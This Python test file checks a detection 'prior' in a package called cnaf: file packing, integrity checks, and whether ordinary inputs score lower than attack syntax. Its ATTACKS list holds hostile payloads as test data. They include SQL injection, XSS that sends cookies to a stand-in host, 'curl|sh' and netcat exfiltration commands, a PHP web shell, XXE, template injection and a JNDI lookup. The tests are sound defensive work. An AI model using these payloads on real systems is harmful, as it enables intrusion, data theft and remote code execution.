"""The general prior: the one that ships, its packing, and files that are none."""

from __future__ import annotations

from hashlib import sha256
from importlib import resources

import numpy as np
import numpy.typing as npt
import pytest
from cnaf.models.errors import ArtifactError, ArtifactFormatError
from cnaf.models.kernels import hash_gram
from cnaf.models.lexicon import CLASS_NAMES, FIRST_CLASS
from cnaf.models.ngrams import NgramTable, build_table
from cnaf.models.prior import (
    WIDEST,
    Prior,
    PriorFiles,
    general_prior,
    pack_prior,
    unpack_prior,
)
from cnaf.models.strict_json import canonical_json, parse_json
from cnaf.models.value_types import ValueType

from tests.support.priors import alone

TYPES = len(ValueType)
#: What people and programs send to any application.
ORDINARY = [
    b"red hat", b"What's on at 7:30, and where?", b"Fran\xc3\xa7ois d'Estaing", b"2024-05-01",
    b"ann@example.org", b"https://example.org/news/2024/05?page=2", b"hello-world", b"1,299.00",
    b"/wp-content/themes/spring/style.css", b"O'Neil & Sons", b"black or white", b"rock'n'roll",
    b"The delivery came early; thank you, and see you next week!", b"union of students", b"5 > 3",
    "\u6771\u4eac\u306e\u5929\u6c17".encode(), b"price: 20 (incl. tax)",
]  # fmt: skip
#: What servers, databases, shells and browsers act on; none of it is in any corpus of ours.
ATTACKS = [
    b"7' OR '7'='7", b"-1 UNION SELECT login,pw FROM members#", b"x\"><svg/onload=confirm(3)>",
    b"<script>new Image().src='//e.test/?'+document.cookie</script>", b"$(curl e.test/x|sh)",
    b"8;cat /etc/hosts|nc e.test 9", b"../../../../var/log/auth.log", b"{{9*9}}${9*9}<%=9*9%>",
    b"1 AND SLEEP(9)-- -", b"<?php passthru($_GET[9]);?>", b"') WAITFOR DELAY '0:0:9'--",
    b"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]>", b"||(SELECT version())||",
    b"${jndi:ldap://e.test/z}",
]  # fmt: skip


@pytest.fixture(scope="module")
def shipped() -> PriorFiles:
    folder = resources.files("cnaf.models") / "general"
    return PriorFiles(
        (folder / "prior.json").read_bytes(), (folder / "prior.safetensors").read_bytes()
    )


def small(seed: int = 0, **sources: int) -> PriorFiles:
    random = np.random.default_rng(seed)
    hashes = np.array(
        [hash_gram(s, k, g) for s in range(3) for k in (0, 1) for g in range(40)], np.uint64
    )
    table = build_table(hashes, random.integers(0, 90, len(hashes)).astype(np.uint8))
    word_bits = random.integers(0, 48, 64).astype(np.uint8)
    rarity = random.random((TYPES, 64)).astype(np.float32)
    return pack_prior(table, word_bits, rarity, {"seed": seed, **sources})


class TestShipped:
    def test_it_is_what_the_package_holds(self, shipped: PriorFiles) -> None:
        prior = general_prior()
        assert prior is general_prior()
        assert prior.digest == sha256(shipped.config).hexdigest() == unpack_prior(shipped).digest
        assert {"seed", "size", "python"} <= prior.sources.keys()
        assert len(shipped.tensors) < 1_500_000

    def test_packing_it_again_gives_the_same_bytes(self, shipped: PriorFiles) -> None:
        prior = general_prior()
        again = pack_prior(prior.table, prior.word_bits, prior.rarity, prior.sources)
        assert again == shipped

    def test_its_numbers_are_sound(self) -> None:
        prior = general_prior()
        classes = slice(FIRST_CLASS, FIRST_CLASS + len(CLASS_NAMES))
        # Only a word of a class costs that it is one, and most are rare.
        others = np.delete(prior.word_bits, np.arange(64)[classes])
        assert not others.any()
        assert (prior.word_bits[classes] >= 4 * 3).all()
        assert prior.rarity.shape == (TYPES, 64)
        assert (prior.rarity > -1e-3).all()
        # Letters are no news in a text, marks of markup are.
        rarity = prior.rarity[ValueType.TEXT]
        assert rarity[1] < 0.5 < 5 < rarity[FIRST_CLASS + CLASS_NAMES.index("event handlers")]

    def test_ordinary_values_are_cheap_and_the_syntax_of_attacks_is_not(self) -> None:
        prior = general_prior()
        ordinary = {value: alone(prior, value)["token-peak"] for value in ORDINARY}
        attacks = {value: alone(prior, value)["token-peak"] for value in ATTACKS}
        # In quarter bits above the allowance: no value of either kind lies near forty.
        assert max(ordinary.values()) < 40 < min(attacks.values()), (ordinary, attacks)

    def test_words_of_many_languages_are_cheap(self) -> None:
        prior = general_prior()
        random = b"zqxj vkwqz xqjzv kqzwx vjxqk"
        for text in (b"thank you for the quick delivery", b"vielen Dank f\xc3\xbcr die Lieferung",
                     b"merci pour la livraison rapide", b"gracias por la entrega"):  # fmt: skip
            assert alone(prior, text)["byte-mean"] < alone(prior, random)["byte-mean"] - 8


class TestFiles:
    def test_what_is_packed_comes_back(self) -> None:
        random = np.random.default_rng(3)
        table = NgramTable(
            np.append(random.integers(1, 2**16, 99), 0).astype(np.uint16),
            random.integers(0, 256, 100).astype(np.uint8),
        )
        bits, rarity = np.arange(64, dtype=np.uint8), np.ones((TYPES, 64), np.float32)
        prior: Prior = unpack_prior(pack_prior(table, bits, rarity, {"a": "1", "b": 2}))
        for one, other in ((prior.table.tags, table.tags), (prior.table.bits, table.bits),
                           (prior.word_bits, bits), (prior.rarity, rarity)):  # fmt: skip
            assert one.dtype == other.dtype
            assert np.array_equal(one, other)
        assert prior.sources == {"a": "1", "b": 2}
        assert WIDEST == TYPES

    def test_equal_contents_give_equal_bytes_and_digests(self) -> None:
        assert small(1) == small(1)
        digests = {unpack_prior(files).digest for files in (small(1), small(2), small(1, size=9))}
        # Its sources are part of what a prior is.
        assert len(digests) == 3

    def test_a_flipped_bit_is_refused_or_makes_another_prior(self) -> None:
        files = small()
        digest = unpack_prior(files).digest
        for at in range(0, len(files.tensors), max(1, len(files.tensors) // 150)):
            spoilt = bytearray(files.tensors)
            spoilt[at] ^= 0x10
            with pytest.raises(ArtifactFormatError):
                unpack_prior(PriorFiles(files.config, bytes(spoilt)))
        for at in range(0, len(files.config), 3):
            changed = bytearray(files.config)
            changed[at] ^= 0x01
            try:
                prior = unpack_prior(PriorFiles(bytes(changed), files.tensors))
            except ArtifactError:
                continue
            # No model that was learned with this one takes it.
            assert prior.digest != digest

    @pytest.mark.parametrize("share", [0, 0.01, 0.5, 0.999])
    def test_truncated_files_are_refused(self, share: float) -> None:
        files = small()
        for config, tensors in ((share, 1), (1, share)):
            cut = PriorFiles(
                files.config[: int(len(files.config) * config)],
                files.tensors[: int(len(files.tensors) * tensors)],
            )
            with pytest.raises(ArtifactFormatError):
                unpack_prior(cut)

    @pytest.mark.parametrize(
        "entries",
        [{"format": "other"}, {"format": None}, {"version": 2}, {"version": None},
         {"sources": None}, {"sources": [1]}, {"tensors": None}, {"tensors": {}}],
    )  # fmt: skip
    def test_a_description_that_is_none_is_refused(self, entries: dict[str, object]) -> None:
        files = small()
        config = parse_json(files.config)
        assert isinstance(config, dict)
        with pytest.raises(ArtifactFormatError):
            unpack_prior(PriorFiles(canonical_json({**config, **entries}), files.tensors))
        for key in entries:
            rest = {name: value for name, value in config.items() if name != key}
            with pytest.raises(ArtifactFormatError):
                unpack_prior(PriorFiles(canonical_json(rest), files.tensors))

    @pytest.mark.parametrize("config", [b"", b"[]", b"null", b"{", b"\xff", b'{"format":1}'])
    def test_what_is_no_description_is_refused(self, config: bytes) -> None:
        with pytest.raises(ArtifactFormatError):
            unpack_prior(PriorFiles(config, small().tensors))

    @pytest.mark.parametrize(
        ("part", "array"),
        [
            ("tags", np.ones(100, np.uint16)),  # no empty slot: a look-up would not end
            ("tags", np.zeros(63, np.uint16)),
            ("tags", np.zeros((10, 10), np.uint16)),
            ("tags", np.zeros((), np.uint16)),
            ("tags", np.zeros(100, np.int32)),
            ("bits", np.zeros(99, np.uint8)),
            ("bits", np.zeros(100, np.int8)),
            ("word_bits", np.zeros(63, np.uint8)),
            ("word_bits", np.zeros(64, np.uint16)),
            ("rarity", np.zeros((TYPES, 63), np.float32)),
            ("rarity", np.zeros((TYPES - 1, 64), np.float32)),
            ("rarity", np.zeros((TYPES, 64), np.float64)),
            ("rarity", np.full((TYPES, 64), np.nan, np.float32)),
        ],
    )
    def test_arrays_that_would_mislead_a_kernel_are_refused(
        self, part: str, array: npt.NDArray[np.generic]
    ) -> None:
        arrays: dict[str, npt.NDArray[np.generic]] = {
            "tags": np.zeros(100, np.uint16),
            "bits": np.zeros(100, np.uint8),
            "word_bits": np.zeros(64, np.uint8),
            "rarity": np.zeros((TYPES, 64), np.float32),
        }

        def read(tags, bits, word_bits, rarity) -> Prior:
            return unpack_prior(pack_prior(NgramTable(tags, bits), word_bits, rarity, {}))

        assert read(**arrays).sources == {}
        with pytest.raises(ArtifactFormatError):
            read(**{**arrays, part: array})
